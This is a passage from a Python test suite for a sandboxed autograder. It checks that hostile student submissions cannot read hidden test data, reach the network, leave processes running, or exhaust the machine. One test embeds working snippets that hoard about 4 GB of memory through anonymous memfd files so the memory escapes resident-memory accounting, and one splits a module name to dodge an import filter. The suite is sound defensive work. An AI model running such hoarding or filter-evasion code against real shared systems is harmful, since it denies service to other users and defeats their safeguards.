        f"mount --bind {private_data} {REPO_ROOT / 'datasets'}",
        f"mount -t tmpfs -o mode=700 none {REPO_ROOT / 'homework'}",
        *[f"mount -t tmpfs -o mode=700 none {folder}" for folder in package_folders()],
        f"exec {sys.executable} -m autograder grade {subs} --task name-transliteration --hidden "
        f"{tmp_path / 'hidden'} --out {tmp_path / 'grades'} --isolation user --jobs 2 --quiet",
    ]
    try:
        ran = subprocess.run(
            ["unshare", "--mount", "--propagation", "private", "sh", "-c", "\n".join(script)],
            capture_output=True,
            text=True,
            timeout=600,
            env=dict(os.environ, PYTHONPATH=str(REPO_ROOT)),
        )
        heard = []
        for server in (tcp_server, unix_server):
            with contextlib.suppress(BlockingIOError):
                heard.append(server.accept())
    finally:
        tcp_server.close()
        unix_server.close()
        shutil.rmtree(unix_path.parent, ignore_errors=True)
    assert ran.returncode == 0, ran.stderr[-2000:]
    assert heard == []
    with open(tmp_path / "grades" / "gradebook.csv", encoding="utf-8") as handle:
        rows = {row["student"]: row for row in csv.DictReader(handle)}
    assert {row["isolation"] for row in rows.values()} == {"user+nonet"}
    assert rows["honest"]["status"] == "graded", rows["honest"]["message"]
    for name in ("snoop", "saboteur", "caller", "stasher"):
        assert rows[name]["status"] == "graded", (name, rows[name]["message"])
        assert rows[name]["score"] == rows["honest"]["score"]
    hidden = [row["source"] for row in load_hidden_set(tmp_path / "hidden", "name-transliteration")[0]]
    for name in rows:
        said = "".join(
            (tmp_path / "grades" / folder / f"{name}{suffix}").read_text(encoding="utf-8")
            for folder, suffix in (("feedback", ".md"), ("feedback", ".html"), ("results", ".json"))
        )
        assert not [source for source in hidden if source in said], name
    assert _processes_running(daemon) == [] and not (REPO_ROOT / "vandal-user.txt").exists()
    assert _processes_of_users_from(SANDBOX_UID_BASE) == []  # the pid-hopper went with its user


def _processes_of_users_from(first_uid: int) -> list[int]:
    found = []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            uid = int(Path(f"/proc/{pid}/status").read_text().split("Uid:")[1].split()[0])
        except (OSError, IndexError, ValueError):
            continue
        if uid >= first_uid:
            found.append(int(pid))
    return found


@serial  # its bundles fill gigabytes of the machine's memory
@needs_namespaces
def test_without_a_cgroup_the_watchdog_stops_memory_in_files_and_fork_bombs(tmp_path, monkeypatch):
    """Where the grader may create no cgroup (a user's laptop), the watchdog keeps the same limits."""
    import autograder.sandbox
    from tests.test_autograder import tiny_model_and_hidden_set

    monkeypatch.setattr(autograder.sandbox.Cgroup, "create", classmethod(lambda cls, name, limits: None))
    model, vocabs = tiny_model_and_hidden_set("name-transliteration", tmp_path)
    layer = (REPO_ROOT / "homework" / "kv_attention.py").read_text(encoding="utf-8")
    memfds = r"""
files = []
for _ in range(40):                 # 4 GB in anonymous files: no process's resident memory shows them
    fd = os.memfd_create("hoard")
    for _ in range(100):
        os.write(fd, b"1" * (1 << 20))
    files.append(fd)
time.sleep(120)
"""
    mapped = r"""
mmap = importer("mm" + "ap")
maps = []
for _ in range(40):                 # 4 GB in anonymous files, each closed once one page of it is mapped: no
    fd = os.memfd_create("hoard")   # descriptor holds them, and the untouched pages are in no one's RSS
    for _ in range(100):
        os.write(fd, b"1" * (1 << 20))
    maps.append(mmap.mmap(fd, mmap.PAGESIZE))
    os.close(fd)
time.sleep(120)
"""
    for name, attack in {"memfds": memfds, "mapped": mapped, "forker": FORK}.items():
        export(model, vocabs, task="name-transliteration", student_id=name, out=tmp_path / "subs" / name)
        (tmp_path / "subs" / name / "custom_layers.py").write_text(layer + PRELUDE + attack, encoding="utf-8")
    rubric = load_rubric(_rubric(tmp_path, "name-transliteration", wall_seconds=60, memory_mb=3072, tasks=64))
    with without_feedback_examples():  # else each hoard runs again on the public examples
        records = {
            r["student"]: r
            for r in grade_folder(
                tmp_path / "subs", rubric, tmp_path / "hidden", tmp_path / "grades", progress=False
            )
        }
    assert records["memfds"]["status"] == "out-of-memory", records["memfds"]["message"]
    assert records["mapped"]["status"] == "out-of-memory", records["mapped"]["message"]
    assert records["forker"]["status"] == "too-many-processes", records["forker"]["message"]
    assert records["forker"]["sandbox_seconds"] < 60


@serial
@pytest.mark.parametrize("left", ["secret", "hidden set", "other hidden set", "word list", "copy of targets"])
def test_grade_stops_while_the_kit_holds_a_secret(tmp_path, left):
    """The README's former layout kept the secret and hidden sets in the kit's folder, which student code has
    on its path: grade stops in one line that says what to move, before it grades or writes anything."""
    from labs.common.errors import InputError

    (tmp_path / "secret.txt").write_text(SECRET)
    make_hidden_set("date-translation", tmp_path / "secret.txt", tmp_path / "hidden", n=20)
    (tmp_path / "subs").mkdir()
    (tmp_path / "subs" / "x.zip").write_bytes(b"not a zip")
    token = secrets.token_hex(4)
    stray = REPO_ROOT / f"left-{token}"
    stray.mkdir()
    try:
        if left == "secret":  # found by its fingerprint, whatever it is called, with or without a newline
            (stray / "notes.txt").write_text(SECRET + "\n")
        elif left == "hidden set":
            shutil.copytree(tmp_path / "hidden", stray / "copy")
        elif left == "copy of targets":  # renamed, deep in a folder of the kit: found by its SHA-256
            (stray / "a" / "b").mkdir(parents=True)
            shutil.copy(tmp_path / "hidden" / "targets.csv", stray / "a" / "b" / "names.csv")
        elif left == "other hidden set":
            make_hidden_set("date-generation", tmp_path / "secret.txt", stray / "lab1", n=20)
        else:
            (stray / "words.txt").write_bytes(b"\xe0\xb8\x81\n")
            manifest = json.loads((tmp_path / "hidden" / "manifest.json").read_text())
            manifest["private_words_sha256"] = hashlib.sha256(b"\xe0\xb8\x81\n").hexdigest()
            (tmp_path / "hidden" / "manifest.json").chmod(0o600)
            (tmp_path / "hidden" / "manifest.json").write_text(json.dumps(manifest))
        with pytest.raises(InputError) as raised:
            grade_folder(
                tmp_path / "subs",
                load_rubric(task="date-translation"),
                tmp_path / "hidden",
                tmp_path / "out",
                progress=False,
            )
        said = str(raised.value)
        assert (
            "\n" not in said and str(stray) in said and "inside the kit's folder" in said and "move" in said
        )
        assert not (tmp_path / "out").exists()
    finally:
        shutil.rmtree(stray, ignore_errors=True)
    records = grade_folder(
        tmp_path / "subs",
        load_rubric(task="date-translation"),
        tmp_path / "hidden",
        tmp_path / "out",
        progress=False,
    )  # moved out, the same batch grades
    assert [r["status"] for r in records] == ["malformed"]


def test_user_isolation_refuses_to_start_while_the_hidden_set_is_readable(monkeypatch):
    import tempfile

    import autograder.batch
    from labs.common.errors import InputError

    tmp_path = Path(tempfile.mkdtemp())  # pytest's own folders are private: this one is open to all
    tmp_path.chmod(0o755)
    (tmp_path / "secret.txt").write_text(SECRET)
    (tmp_path / "secret.txt").chmod(0o600)
    make_hidden_set("date-translation", tmp_path / "secret.txt", tmp_path / "hidden", n=20)
    assert oct(os.stat(tmp_path / "hidden").st_mode & 0o777) == "0o700"  # private as written
    (tmp_path / "hidden").chmod(0o755)
    (tmp_path / "hidden" / "targets.csv").chmod(0o644)
    (tmp_path / "subs").mkdir()
    (tmp_path / "subs" / "x.zip").write_bytes(b"not a zip")
    monkeypatch.setattr(autograder.batch, "resolve_isolation", lambda requested: "user")
    try:
        with pytest.raises(InputError, match="could read .*hidden"):
            grade_folder(
                tmp_path / "subs",
                load_rubric(task="date-translation"),
                tmp_path / "hidden",
                tmp_path / "out",
                progress=False,
            )
        (tmp_path / "hidden").chmod(0o711)  # others cannot list it, but can open what they can name
        with pytest.raises(InputError, match="could read .*hidden"):
            grade_folder(
                tmp_path / "subs",
                load_rubric(task="date-translation"),
                tmp_path / "hidden",
                tmp_path / "out",
                progress=False,
            )
        (tmp_path / "hidden" / "targets.csv").chmod(0o600)
        (tmp_path / "subs").chmod(0o700)
        (tmp_path / "secret.txt").chmod(0o644)  # where the README keeps it, beside the hidden set
        with pytest.raises(InputError, match="could read .*secret.txt"):
            grade_folder(
                tmp_path / "subs",
                load_rubric(task="date-translation"),
                tmp_path / "hidden",
                tmp_path / "out",
                progress=False,
            )
        (tmp_path / "secret.txt").chmod(0o600)
        romanizer = tmp_path / "pythainlp"
        romanizer.mkdir(mode=0o755)
        (romanizer / "__init__.py").write_text("")
        monkeypatch.setattr(autograder.batch, "package_folders", lambda: [romanizer])
        with pytest.raises(InputError, match="could read .*pythainlp"):
            grade_folder(
                tmp_path / "subs",
                load_rubric(task="date-translation"),
                tmp_path / "hidden",
                tmp_path / "out",
                progress=False,
            )
    finally:
        subprocess.run(["rm", "-rf", str(tmp_path)], check=False)
